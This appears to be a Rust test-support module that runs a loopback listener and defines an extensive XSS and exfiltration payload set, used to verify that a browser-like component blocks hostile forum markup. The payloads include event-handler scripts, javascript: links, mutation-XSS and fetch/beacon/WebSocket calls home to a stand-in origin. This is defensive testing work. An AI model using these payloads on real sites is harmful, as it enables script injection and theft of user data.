//! What a stranger may try with a message, a name or a topic; and a listener that notices when any of it gets out.

use std::{
    io::{BufRead, BufReader, Write},
    net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream},
    sync::{Arc, Mutex, PoisonError},
};

use crate::http::Result;

/// A server that should never be reached. It answers so that what reaches it would work.
pub struct Listener {
    address: SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    /// Listens on the loopback interface until the process ends.
    ///
    /// # Errors
    /// When there is no port.
    pub fn start() -> Result<Self> {
        let socket = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).map_err(|error| error.to_string())?;
        let address = socket.local_addr().map_err(|error| error.to_string())?;
        let seen = Arc::new(Mutex::new(Vec::new()));
        let record = seen.clone();
        std::thread::spawn(move || {
            for stream in socket.incoming().flatten() {
                let record = record.clone();
                // One thread each: a browser keeps connections open without asking for anything.
                std::thread::spawn(move || answer(stream, address, &record));
            }
        });
        Ok(Self { address, seen })
    }

    /// Its origin, without a slash at the end.
    pub fn origin(&self) -> String {
        format!("http://{}", self.address)
    }

    /// Everything that was asked for, in order.
    pub fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

fn answer(mut stream: TcpStream, own: SocketAddr, record: &Mutex<Vec<String>>) {
    let mut reader = BufReader::new(&stream);
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    let mut header = String::new();
    while reader.read_line(&mut header).is_ok_and(|length| length > 2) {
        header.clear();
    }
    let path = line.split(' ').nth(1).unwrap_or("(a connection)").to_owned();
    record.lock().unwrap_or_else(PoisonError::into_inner).push(path.clone());
    let (kind, body) = match path.split_once('.').map(|(_, extension)| extension) {
        Some("js") => ("text/javascript", "window.__xss && window.__xss('remote script')".to_owned()),
        Some("css") => ("text/css", "body { color: red }".to_owned()),
        Some("html") => ("text/html", unprotected(own)),
        _ => ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>".to_owned()),
    };
    let length = body.len();
    // The other side may be gone already.
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    );
}

/// A page without any protection that does with [`markup`] what [`ATTACK`] does: the proof that the attack works.
fn unprotected(own: SocketAddr) -> String {
    let markup = serde_json::Value::from(markup(&format!("http://{own}"))).to_string().replace('<', "\\u003c");
    format!(
        "<!doctype html><meta charset=utf-8><body><script>window.attack = function () {{ {ATTACK} }}; window.markup = {markup};</script>"
    )
}

/// Markup as a hostile forum would send it, calling home at `origin`.
pub fn markup(origin: &str) -> String {
    let host = origin.trim_start_matches("http:");
    format!(
        r#"
<img src="{origin}/img.svg"><img src=x onerror="window.__xss('img onerror')"><svg onload="window.__xss('svg onload')"></svg>
<script>window.__xss('inline script')</script><script src="{origin}/s.js"></script>
<link rel="stylesheet" href="{origin}/c.css"><link rel="prefetch" href="{origin}/prefetch"><link rel="preload" as="image" href="{origin}/preload.svg"><link rel="dns-prefetch" href="{host}"><link rel="icon" href="{origin}/icon.svg">
<style>@import url("{origin}/import.css"); body {{ background: url({origin}/bg.svg) }}</style><p style="background:url({origin}/styleattr.svg)">x</p>
<iframe src="{origin}/frame.svg"></iframe><iframe srcdoc="<script>parent.__xss('srcdoc')</script><img src='{origin}/srcdoc.svg'>"></iframe>
<object data="{origin}/object.svg"></object><embed src="{origin}/embed.svg"><video src="{origin}/video.mp4" poster="{origin}/poster.svg" autoplay></video><audio src="{origin}/audio.mp3" autoplay></audio>
<picture><source srcset="{origin}/srcset.svg"><img alt=""></picture><input type=image src="{origin}/input.svg"><table background="{origin}/table.svg"><tr><td>x</table>
<form id=kith-form action="{origin}/form" method=post><input name=a value=secret></form>
<a id=kith-script href="javascript:window.__xss('javascript address')">x</a><a id=kith-blank target=_blank href="{origin}/blank">x</a><a id=kith-download download href="{origin}/download">x</a><a id=kith-ping ping="{origin}/ping" href="{origin}/link">x</a>
<base href="{origin}/base/"><details open ontoggle="window.__xss('ontoggle')"><summary>x</summary></details><input autofocus onfocus="window.__xss('onfocus')">
<meta http-equiv="refresh" content="1;url={origin}/refresh">
<math><mtext><table><mglyph><style><img src=x onerror="window.__xss('mutation')"></style></mglyph></table></mtext></math>
"#
    )
}

/// The body of a function of the markup and the origin, to be run in a page: puts the markup there raw, as if every
/// other guard had failed, and does what an attacker would do next. What ran is in `window.fired`.
pub const ATTACK: &str = r#"
const [markup, origin] = arguments;
window.fired = [];
window.__xss = (what) => window.fired.push(what);
const attempt = (act) => { try { act() } catch { /* refused, which is the point */ } };
const place = document.createElement('div');
document.body.append(place);
place.innerHTML = markup;
for (const old of place.querySelectorAll('script')) {
  const script = document.createElement('script');
  if (old.src) script.src = old.getAttribute('src'); else script.textContent = old.textContent;
  place.append(script);
}
attempt(() => (0, eval)("window.__xss('eval')"));
attempt(() => new Function("window.__xss('Function')")());
attempt(() => setTimeout("window.__xss('timer text')", 0));
attempt(() => place.setAttribute('onclick', "window.__xss('attribute')"));
attempt(() => place.click());
attempt(() => fetch(origin + '/fetch').catch(() => {}));
attempt(() => fetch(origin + '/opaque', { mode: 'no-cors' }).catch(() => {}));
attempt(() => { const request = new XMLHttpRequest(); request.open('GET', origin + '/xhr'); request.send() });
attempt(() => navigator.sendBeacon(origin + '/beacon', 'x'));
attempt(() => new WebSocket(origin.replace('http', 'ws') + '/socket'));
attempt(() => new EventSource(origin + '/events'));
attempt(() => { new Image().src = origin + '/image.svg' });
attempt(() => new FontFace('x', `url(${origin}/font)`).load().catch(() => {}));
attempt(() => import(origin + '/module.js').catch(() => {}));
attempt(() => { const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = () => window.__xss('worker') });
attempt(() => navigator.serviceWorker?.register(origin + '/service.js').catch(() => {}));
attempt(() => window.open(origin + '/open'));
for (const id of ['kith-script', 'kith-blank', 'kith-ping', 'kith-download']) attempt(() => document.getElementById(id).click());
setTimeout(() => attempt(() => document.getElementById('kith-form').submit()), 300);
setTimeout(() => attempt(() => { location.href = origin + '/location' }), 600);
setTimeout(() => attempt(() => location.assign("javascript:window.__xss('location')")), 900);
"#;
